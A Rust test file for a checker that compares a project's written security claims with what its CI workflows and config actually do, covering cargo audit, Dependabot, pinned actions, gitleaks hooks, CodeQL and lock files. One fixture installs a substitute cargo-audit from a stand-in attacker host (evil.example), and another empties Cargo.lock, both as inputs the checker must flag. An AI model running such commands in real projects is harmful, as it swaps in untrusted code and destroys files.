//! What looks like evidence and is none: other programs, machines that are gone, settings that nothing comes of.

use super::{
    Project,
    scanning::{AT, says},
};

const LOCK: &str = "version = 3\n";
const MANIFEST: &str = "[package]\nname = \"w\"\n[dependencies]\nserde = \"1\"\n";

fn rust(sentence: &str) -> Project {
    Project::with_policy(sentence).file("Cargo.lock", LOCK).file("Cargo.toml", MANIFEST)
}

const SCANNED: &str = "Dependencies are scanned for known vulnerabilities with cargo audit.";

/// What one rule says, without the sentence.
fn said(project: Project, rule: &str) -> Vec<String> {
    let all = project.says(rule);
    all.iter()
        .map(|it| {
            let (status, rest) = it.split_once(' ').unwrap();
            format!("{status}: {}", rest.split_once("\": ").map_or(rest, |(_, why)| why))
        })
        .collect()
}

#[test]
fn another_program_or_lock_file_is_not_what_is_claimed() {
    let program = "what stands before it may change which program is run";
    let files = "what stands before it may change the files that it looks at";
    let refused = "the shell would refuse the script: a quote or a bracket of it has no other";
    for (script, why) in [
        ("cargo install --git https://evil.example/cargo-audit\ncargo audit", program),
        ("cargo install --path tools/cargo-audit\ncargo audit", program),
        ("cargo install fake --bin cargo-audit\ncargo audit", program),
        ("tee Cargo.lock < /dev/null\ncargo audit", files),
        ("cargo update\ncargo audit", files),
        ("cargo audit )", refused),
        ("cargo audit \"", refused),
    ] {
        let expected = format!("undetermined: whether cargo-audit is run is not known: {why} {AT}");
        assert_eq!(says(rust(SCANNED).workflow(script)), [expected], "{script}");
    }
    for script in [
        "cargo install --locked cargo-audit\ncargo audit",
        "cargo install --path .\ncargo audit",
        "case $X in\n  a) echo a;;\n  b) echo b;;\nesac\ncargo audit",
        "echo \"a\nb\"\ncargo audit",
    ] {
        let expected = format!("pass: run: cargo-audit {AT}");
        assert_eq!(says(rust(SCANNED).workflow(script)), [expected], "{script}");
    }
    let own = rust(SCANNED).file("x/Cargo.toml", "[package]\nname = \"cargo-audit\"\n");
    let why = "the project has a program of its name";
    assert_eq!(
        says(own.workflow("cargo audit")),
        [format!("undetermined: whether cargo-audit is run is not known: {why} {AT}")]
    );
}

#[test]
fn a_workflow_that_is_refused_or_a_machine_that_is_gone_runs_nothing() {
    let steps = "    steps:\n      - uses: actions/checkout@v4\n      - run: cargo audit\n";
    let called = |inputs: &str, with: &str| {
        rust(SCANNED)
            .file(
                ".github/workflows/r.yml",
                &format!("on:\n  workflow_call:\n{inputs}jobs:\n  z:\n    runs-on: x\n{steps}"),
            )
            .file(
                ".github/workflows/ci.yml",
                &format!("on: push\njobs:\n  a:\n    uses: ./.github/workflows/r.yml\n{with}"),
            )
    };
    let needed = "    inputs:\n      level: {required: true, type: string}\n";
    let at = "(.github/workflows/r.yml, job z)";
    let unknown = "undetermined: whether cargo-audit is run is not known: what calls it is refused: it gives";
    assert_eq!(says(called(needed, "")), [format!("{unknown} no input that is required {at}")]);
    let with = "    with: {level: x}\n";
    assert_eq!(says(called("", with)), [format!("{unknown} an input that is not there {at}")]);
    assert_eq!(says(called(needed, with)), [format!("pass: run: cargo-audit {at}")]);
    let own = rust(SCANNED).file(
        ".github/workflows/ci.yml",
        &format!(
            "on: [push, workflow_call]\njobs:\n  b:\n    uses: ./.github/workflows/ci.yml\n  test:\n    runs-on: x\n{steps}"
        ),
    );
    let itself = "it calls a workflow that calls it, which GitHub refuses";
    assert_eq!(says(own), [format!("undetermined: whether cargo-audit is run is not known: {itself} {AT}")]);
    let on = |job: &str| {
        says(
            rust(SCANNED)
                .file(".github/workflows/ci.yml", &format!("on: push\njobs:\n  test:\n    {job}\n{steps}")),
        )
    };
    assert_eq!(
        on("runs-on: ubuntu-18.04"),
        [format!(
            "undetermined: whether cargo-audit is run is not known: the machine that its job asks for is no longer there {AT}"
        )]
    );
    assert_eq!(on("runs-on: ubuntu-24.04"), [format!("pass: run: cargo-audit {AT}")]);
}

#[test]
fn updates_that_pass_over_every_crate_keep_nothing_up_to_date() {
    let with = |ignore: &str| {
        let text = format!(
            "version: 2\nupdates:\n  - package-ecosystem: cargo\n    directory: /\n    schedule: {{interval: weekly}}\n\
             \x20   ignore: [{ignore}]\n"
        );
        said(
            rust("Dependabot keeps our dependencies up to date.").file(".github/dependabot.yml", &text),
            "dependency-updates",
        )
    };
    let why = "undetermined: .github/dependabot.yml passes over every package that a manifest names";
    assert_eq!(with("{dependency-name: serde}"), [why]);
    assert_eq!(with("{dependency-name: \"ser*\"}"), [why]);
    for near in [
        "{dependency-name: rand}",
        "{dependency-name: serde, update-types: [\"version-update:semver-major\"]}",
    ] {
        assert_eq!(with(near), ["pass: .github/dependabot.yml has cargo"], "{near}");
    }
}

#[test]
fn an_action_of_the_repository_and_images_are_pinned_too() {
    let commit = "a".repeat(40);
    let workflow = format!(
        "on: push\njobs:\n  a:\n    runs-on: x\n    steps: [{{uses: \"actions/checkout@{commit}\"}}]\n"
    );
    let of = |sentence: &str, path: &str, text: &str| {
        let project = Project::with_policy(sentence).file(".github/workflows/ci.yml", &workflow);
        said(project.file(path, text), "pinned-actions")
    };
    let all = "All GitHub Actions are pinned by commit SHA.";
    let action = "runs:\n  using: composite\n  steps:\n    - uses: actions/cache@v4\n";
    assert_eq!(of(all, "action.yml", action), ["fail: not by commit: actions/cache@v4 (action.yml)"]);
    let images = "All GitHub Actions and container images are pinned by digest.";
    assert_eq!(
        of(images, "Dockerfile", "FROM alpine:3\n"),
        ["undetermined: whether the images of Dockerfile are pinned was not looked at"]
    );
    for (sentence, path) in [(all, "Dockerfile"), (images, "other")] {
        assert_eq!(of(sentence, path, "x"), ["pass: 1 use is named by commit"], "{sentence}");
    }
}

#[test]
fn hooks_that_are_enforced_in_ci_run_there() {
    let hooks =
        "repos:\n- repo: https://github.com/gitleaks/gitleaks\n  rev: v8\n  hooks: [{id: gitleaks}]\n";
    let of = |sentence: &str, script: &str| {
        said(
            Project::with_policy(sentence).file(".pre-commit-config.yaml", hooks).workflow(script),
            "pre-commit",
        )
    };
    let enforced = "Pre-commit hooks run gitleaks and are enforced in CI.";
    assert_eq!(
        of(enforced, "ls"),
        ["undetermined: no workflow is known to run pre-commit, and pre-commit.ci leaves none"]
    );
    let has = ["pass: .pre-commit-config.yaml has gitleaks"];
    assert_eq!(of(enforced, "pre-commit run --all-files"), has);
    assert_eq!(of("Pre-commit hooks run gitleaks.", "ls"), has);
}

#[test]
fn an_analysis_looks_at_a_language_of_the_project_and_publishes_what_it_finds() {
    let of = |init: &str, analyze: &str, permissions: &str| {
        let action = "github/codeql-action";
        let text = format!(
            "on: [push, pull_request]\n{permissions}jobs:\n  test:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      \
             - {{uses: {action}/init@v3, with: {{{init}}}}}\n      - {{uses: {action}/analyze@v3, with: {{{analyze}}}}}\n"
        );
        let project = Project::with_policy("CodeQL analyses our code.").file("package-lock.json", "{}\n");
        said(project.file(".github/workflows/ci.yml", &text), "static-analysis")
    };
    let why = "undetermined: whether codeql looks at anything is not known: ";
    for (init, analyze, says) in [
        ("languages: go", "", "it is told to look at go, and the project has no manifest of it"),
        ("languages: \"\"", "", "it is told no language"),
        ("queries: ./nope.ql", "", "its queries ./nope.ql were not read"),
        ("", "upload: never", "what it finds is not uploaded"),
    ] {
        assert_eq!(of(init, analyze, ""), [format!("{why}{says}")], "{init} {analyze}");
    }
    let token = "undetermined: whether what codeql finds is published is not known: the token has no `security-events: write`";
    assert_eq!(of("", "", "permissions: {}\n"), [format!("{token} {AT}")]);
    for (init, permissions) in [
        ("languages: javascript", ""),
        ("languages: \"javascript, go\"", "permissions: {security-events: write}\n"),
        ("queries: security-extended", ""),
    ] {
        assert_eq!(of(init, "", permissions), [format!("pass: run: codeql {AT}")], "{init}");
    }
}

#[test]
fn a_tool_of_another_language_or_that_cannot_fail_is_told() {
    let of = |script: &str| {
        said(rust("Our code is analysed by static analysis.").workflow(script), "static-analysis")
    };
    assert_eq!(
        of("bandit -r ."),
        ["undetermined: bandit looks at Python alone, and the project has manifests of Rust crates"]
    );
    assert_eq!(
        of("semgrep scan --config auto"),
        [
            format!("pass: run: semgrep {AT}"),
            format!("fail: (warning) 3 semgrep cannot fail: it fails only with `--error` {AT}")
        ]
        .map(|it| it.replace("(warning) 3 ", ""))
    );
    assert_eq!(of("semgrep scan --config auto --error"), [format!("pass: run: semgrep {AT}")]);
}

#[test]
fn what_is_said_of_all_is_looked_at_in_every_folder() {
    let all = "All dependencies are scanned for known vulnerabilities with cargo audit.";
    let apart = "undetermined: cargo-audit is run, and nothing is known to look at b/Cargo.lock";
    assert_eq!(says(rust(all).file("b/Cargo.lock", LOCK).workflow("cargo audit")), [apart]);
    for project in [
        rust(all).workflow("cargo audit"),
        rust(all).file("tests/b/Cargo.lock", LOCK).workflow("cargo audit"),
        rust(SCANNED).file("b/Cargo.lock", LOCK).workflow("cargo audit"),
    ] {
        assert_eq!(says(project), [format!("pass: run: cargo-audit {AT}")]);
    }
    let review = "on: pull_request\njobs:\n  test:\n    runs-on: x\n    steps:\n      - uses: actions/checkout@v4\n      \
                  - uses: actions/dependency-review-action@v4\n";
    let of = |sentence: &str| says(rust(sentence).file(".github/workflows/ci.yml", review));
    assert_eq!(
        of("All dependencies are scanned for known vulnerabilities."),
        ["undetermined: dependency-review is run, and looks at what a pull request changes alone"]
    );
    assert_eq!(
        of("Dependencies are scanned for known vulnerabilities."),
        [format!("pass: run: dependency-review {AT}")]
    );
}

#[test]
fn a_manifest_that_nothing_locks_is_named() {
    let lock = "version = 3\n[[package]]\nname = \"w\"\nversion = \"1.0.0\"\ndependencies = [\"serde\"]\n[[package]]\n\
                name = \"serde\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n";
    let of = |files: &[(&str, &str)]| {
        let project = Project::with_policy("All dependencies are locked.")
            .file("Cargo.lock", lock)
            .file("Cargo.toml", MANIFEST);
        said(files.iter().fold(project, |it, (path, text)| it.file(path, text)), "locked-dependencies")
    };
    for (path, text) in
        [("requirements.txt", "flask>=2\n"), ("Gemfile", "gem 'rails'\n"), ("setup.py", "x\n")]
    {
        let why =
            format!("undetermined: there is Cargo.lock, and nothing is known to lock what {path} asks for");
        assert_eq!(of(&[(path, text)]), [why]);
    }
    assert_eq!(of(&[]), ["pass: there is Cargo.lock"]);
    assert_eq!(of(&[("docs/requirements.txt", "sphinx\n")]), ["pass: there is Cargo.lock"]);
}
